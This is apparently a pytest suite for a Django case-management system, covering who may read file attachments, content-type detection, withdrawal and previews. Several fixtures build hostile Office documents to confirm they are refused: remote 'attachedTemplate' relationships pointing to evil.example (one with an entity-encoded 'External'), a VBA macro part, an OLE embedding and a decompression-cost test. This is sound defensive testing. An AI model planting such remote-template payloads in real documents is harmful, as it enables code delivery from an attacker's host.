"""Files attached to cases, parties, items and tasks: who reads them, what is accepted, and what happens to them."""

import zipfile
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from agencies.journal.models import Event
from agencies.kernel.errors import Invalid, Stale, TransitionRefused
from agencies.kernel.resource import RESOURCES
from cases.casefile.models import Case
from cases.files import page as file_page
from cases.files.actions import attach_file, attach_to_task
from cases.files.kinds import EXCEL, PICTURES, TEXT, WORD
from cases.files.models import Attachment
from cases.papers.orphans import sweep_orphans
from cases.proceedings.actions import open_proceeding
from cases.proceedings.models import Proceeding
from coordination.actions.performing import perform
from coordination.insight.search.actions import index_changed
from coordination.insight.search.models import Entry
from tests import stories
from tests.refusals import invalid_at

PEOPLE = (
    *("customs.officer", "customs.lead", "commerce.officer", "police.officer", "antismuggling.officer"),
    *("centre.coordinator", "auditor", "sysadmin", "customs.admin"),
)


# As a program reads it, the mode is "External".
ENCODED = (
    "<Relationships><Relationship Id='1' Type='http://x/attachedTemplate' Target='http://evil.example/t.dotm'"
    " TargetMode='&#69;xternal'/></Relationships>"
)


def readers(cast, file):
    return {who for who in PEOPLE if Attachment.objects.visible_to(cast[who]).filter(pk=file.pk).exists()}


def text(words="交接记录", name="record.txt"):
    return SimpleUploadedFile(name, words.encode(), "application/octet-stream")


def office(main="word/document.xml", name="letter.docx", **parts):
    content = BytesIO()
    with zipfile.ZipFile(content, "w") as made:
        made.writestr("[Content_Types].xml", "<Types/>")
        made.writestr(main, "<document/>")
        for part, body in parts.items():
            made.writestr(part, body)
    return SimpleUploadedFile(name, content.getvalue(), "application/zip")


def test_a_file_of_the_agency_is_read_there_alone_until_it_is_shared(cast):
    case = stories.shared_case(cast)
    file = stories.attachment(cast, "agency", case)
    assert readers(cast, file) == {"customs.officer", "customs.lead"}
    stories.walk(cast, file, [("share", "customs.officer", {})])
    assert readers(cast, file) == {"customs.officer", "customs.lead", "commerce.officer", "centre.coordinator"}


def test_a_file_on_a_restricted_case_is_not_read_by_the_centre(cast):
    file = stories.attachment(cast, "case", stories.case(cast, handling="H3"))
    assert readers(cast, file) == {"customs.officer", "customs.lead"}


def test_a_file_of_a_task_is_read_by_both_of_its_agencies_without_the_case(cast):
    task = stories.task(cast, "OPEN")
    case = Case.objects.get(pk=task.case_id)
    for share in case.shares.exclude(agency=case.lead):
        share.delete()
    file = attach_to_task(task, actor=cast["commerce.officer"], file=text())
    assert readers(cast, file) == {"customs.officer", "customs.lead", "commerce.officer"}
    page = cast.browser("commerce.officer").get(f"/files/{file.pk}/")
    assert (page.status_code, case.number in page.text) == (200, False)
    assert str(case.get_handling_display()) not in page.text
    assert file.title in cast.browser("customs.officer").get(f"/tasks/{task.pk}/").text


def test_strangers_of_a_task_attach_nothing_to_it(cast):
    task = stories.task(cast, "OPEN")
    with pytest.raises(Exception, match="Another role or agency"):
        attach_to_task(task, actor=cast["police.officer"], file=text())
    with pytest.raises(Stale):
        attach_to_task(task, actor=cast["commerce.officer"], file=text(), version=task.version + 1)


def test_a_person_attaches_a_file_to_a_party_on_the_page_and_finds_it_on_the_case(cast):
    case = stories.case(cast)
    party, browser = case.parties.get(), cast.browser("customs.officer")
    sent = {
        "audience": "agency",
        "about": f"party:{party.pk}",
        "note": "From the house search",
        "version": case.version,
    }
    answer = browser.post(f"/cases/{case.pk}/do/attach_file/", {**sent, "file": text(name="C:\\papers\\交接.txt")})
    assert answer.status_code == 302
    file = Attachment.objects.get()
    assert (file.title, file.media_type, file.about_id) == ("交接.txt", TEXT, party.pk)
    assert Case.objects.get(pk=case.pk).version == case.version
    tab = browser.get(f"/cases/{case.pk}/?tab=papers").text
    assert file.title in tab
    assert party.name in tab
    page = browser.get(f"/files/{file.pk}/").text
    assert "交接记录" in page
    assert "From the house search" in page


@pytest.mark.parametrize(
    ("upload", "media_type"),
    [
        (lambda: office(), WORD),
        (lambda: office("xl/workbook.xml", "table.xlsx"), EXCEL),
        (lambda: text(), TEXT),
        (lambda: SimpleUploadedFile("old.txt", "报关单".encode("gb18030")), TEXT),
        (lambda: stories.scan(), "application/pdf"),
    ],
)
def test_the_type_is_found_in_the_content(cast, upload, media_type):
    file = stories.attachment(cast, file=upload())
    assert file.media_type == media_type
    answer = cast.browser("customs.officer").get(f"/files/{file.pk}/content/")
    assert answer["Content-Type"] == media_type
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    ("upload", "code"),
    [
        (lambda: SimpleUploadedFile("run.exe", b"MZ\x00\x01" + b"\x00" * 100), "media_type"),
        (lambda: SimpleUploadedFile("empty.txt", b""), "empty"),
        (lambda: SimpleUploadedFile("cut.docx", b"PK\x03\x04" + b"\x00" * 100), "media_type"),
        (lambda: office(**{"word/vbaProject.bin": "macro"}), "active"),
        (lambda: office(**{"word/VBAPROJECT.BIN": "macro"}), "active"),
        (lambda: office(**{"word/_rels/document.xml.rels": ENCODED}), "active"),
        (lambda: office(**{"word/_rels/document.xml.rels": "<Relationships"}), "broken"),
        (lambda: office(**{"word/_rels/document.xml.rels": " " * 2_000_000}), "costly"),
        (lambda: office(**{"word/embeddings/oleObject1.bin": "x"}), "active"),
        (
            lambda: office(
                **{
                    "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="1" Type="http://x/attachedTemplate"'
                    ' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
                }
            ),
            "active",
        ),
    ],
)
def test_other_files_and_active_content_are_refused_by_name(cast, upload, code):
    with pytest.raises(Invalid) as no:
        stories.attachment(cast, file=upload())
    assert [(error.pointer, error.code) for error in no.value.errors] == [("/file", code)]
    assert not Attachment.objects.exists()


def test_a_hyperlink_in_a_document_is_no_active_content(cast):
    link = '<Relationship Id="1" Type="http://x/hyperlink" Target="http://example.org" TargetMode="External"/>'
    assert stories.attachment(cast, file=office(**{"word/_rels/document.xml.rels": link})).media_type == WORD


def test_a_document_that_would_unpack_to_more_than_memory_is_refused(cast, monkeypatch):
    monkeypatch.setattr("agencies.kernel.limits.OFFICE_BYTES", 1000)
    with pytest.raises(Invalid) as no:
        stories.attachment(cast, file=office(**{"word/media/big.xml": " " * 2000}))
    assert [error.code for error in no.value.errors] == ["costly"]


def test_pages_are_counted_and_who_collected_a_file_is_said_and_put_right(cast):
    file = stories.attachment(cast, volume="volume 1, pages 3-9", collected_by="The laboratory")
    assert (file.pages, stories.attachment(cast, file=text()).pages) == (1, None)
    browser, url = cast.browser("customs.officer"), f"/files/{file.pk}/do/describe/"
    sent = {
        "title": file.title,
        "pages": "7",
        "volume": "",
        "collected_by": "Two officers",
        "collected_on": "2026-11-02",
    }
    assert browser.post(url, {**sent, "version": file.version}).status_code == 302
    file.refresh_from_db()
    assert (file.pages, file.volume, file.collected_by) == (7, "", "Two officers")
    assert "2026-11-02" in browser.get(f"/files/{file.pk}/").text


def test_the_same_file_is_attached_once_and_no_agency_learns_what_another_attached(cast):
    case = stories.shared_case(cast)
    stories.attachment(cast, "agency", case, file=text())
    with pytest.raises(TransitionRefused, match="already attached"):
        stories.attachment(cast, "agency", case, file=text())
    assert stories.attachment(cast, "agency", case, file=text(), by="commerce.officer").agency.code == "MOFCOM_SCB"


def test_a_withdrawn_file_is_kept_for_its_agency_and_gone_for_all_others(cast):
    case = stories.shared_case(cast)
    file = stories.attachment(cast, "case", case)
    stories.walk(cast, file, [("withdraw", "customs.lead", {"reason": "wrong case"})])
    assert readers(cast, file) == {"customs.officer", "customs.lead"}
    assert cast.browser("commerce.officer").get(f"/files/{file.pk}/content/").status_code == 404
    index_changed()
    assert not Entry.objects.filter(kind="file", thing=file.pk).exists()
    stories.walk(cast, file, [("restore", "customs.officer", {"reason": "it was right"})])
    index_changed()
    assert Entry.objects.visible_to(cast["commerce.officer"]).filter(kind="file", thing=file.pk).exists()
    assert "commerce.officer" in readers(cast, file)


def test_a_file_that_was_changed_on_the_disk_is_not_handed_out(cast):
    file = stories.attachment(cast, file=text())
    with file.file.storage.open(file.file.name, "wb") as stored:
        stored.write(b"something else")
    answer = cast.browser("customs.officer").get(f"/files/{file.pk}/content/")
    assert answer.status_code == 409
    assert "digest" in answer.text


def test_the_preview_is_a_picture_made_anew_and_only_for_readers(cast):
    pytest.importorskip("pypdfium2")
    file = stories.attachment(cast, file=stories.scan())
    shown = cast.browser("customs.officer").get(f"/files/{file.pk}/preview/")
    assert shown["Content-Type"] == "image/png"
    assert shown.content.startswith(b"\x89PNG")
    assert cast.browser("commerce.officer").get(f"/files/{file.pk}/preview/").status_code == 404
    word = stories.attachment(cast, file=office())
    assert cast.browser("customs.officer").get(f"/files/{word.pk}/preview/").status_code == 404


def test_a_pdf_that_cannot_be_drawn_is_offered_as_a_download(cast, monkeypatch):
    monkeypatch.setattr(file_page, "DRAWN", PICTURES)
    file = stories.attachment(cast, file=stories.scan())
    page = cast.browser("customs.officer").get(f"/files/{file.pk}/").text
    assert f"/files/{file.pk}/preview/" not in page
    assert f"/files/{file.pk}/content/" in page


def test_machines_read_files_over_the_api_and_people_attach_them(cast):
    case = stories.case(cast)
    browser = cast.browser("customs.officer")
    answer = browser.post(
        f"/api/v1/cases/{case.pk}/attach_file/",
        {"file": text(), "audience": "case", "about": f"item:{case.items.get().pk}", "version": case.version},
    )
    assert answer.status_code == 201, answer.json()
    [row] = browser.get("/api/v1/files/", {"case": str(case.pk)}).json()["results"]
    assert (row["title"], row["media_type"], row["about_kind"]) == ("record.txt", TEXT, "item")
    detail = browser.get(f"/api/v1/files/{row['id']}/").json()
    assert browser.get(detail["links"]["file"]).content.decode() == "交接记录"


def test_the_case_may_name_only_its_own_parts(cast):
    case, other = stories.case(cast), stories.case(cast)
    with pytest.raises(Invalid):
        perform(
            RESOURCES["cases"],
            cast["customs.officer"],
            case,
            "attach_file",
            {"audience": "agency", "about": f"party:{other.parties.get().pk}"},
            files={"file": text()},
        )
    with invalid_at("/audience"):
        attach_file(case, actor=cast["customs.officer"], file=text(), audience="task")


def test_attaching_is_recorded_with_the_digest_and_shown_only_to_readers_of_the_file(cast):
    case = stories.shared_case(cast)
    file = stories.attachment(cast, "agency", case)
    event = Event.objects.select_related("note").get(object_kind="file", object_id=file.pk)
    assert event.note.data["sha256"] == file.sha256
    assert not Event.objects.filter(pk=event.pk).readable_by_agency(cast["commerce.officer"].agency_id).exists()


def test_files_of_attachments_are_no_orphans(cast, settings):
    file = stories.attachment(cast)
    assert sweep_orphans() == 0
    assert file.file.storage.exists(file.file.name)


@pytest.mark.slow
def test_the_two_sides_of_a_bureau_do_not_read_what_the_other_keeps(cast):
    case = stories.shared_case(cast)
    stories.transfer(cast, "FILED", case)
    Proceeding.objects.filter(case=case, kind="criminal").update(handler=cast["antismuggling.lead"].id)
    open_proceeding(Case.objects.get(pk=case.pk), actor=cast["antismuggling.officer"], kind="customs")
    case = Case.objects.get(pk=case.pk)
    bureau = ("antismuggling.officer", "antismuggling.lead", "antismuggling.head")
    for audience, by, read in (
        ("agency", "antismuggling.officer", {"antismuggling.officer", "antismuggling.head"}),
        ("agency", "antismuggling.lead", {"antismuggling.lead", "antismuggling.head"}),
        ("case", "antismuggling.officer", set(bureau)),
    ):
        file = stories.attachment(cast, audience, case, by=by)
        seen = {who for who in bureau if Attachment.objects.visible_to(cast[who]).filter(pk=file.pk).exists()}
        assert seen == read, (audience, by)
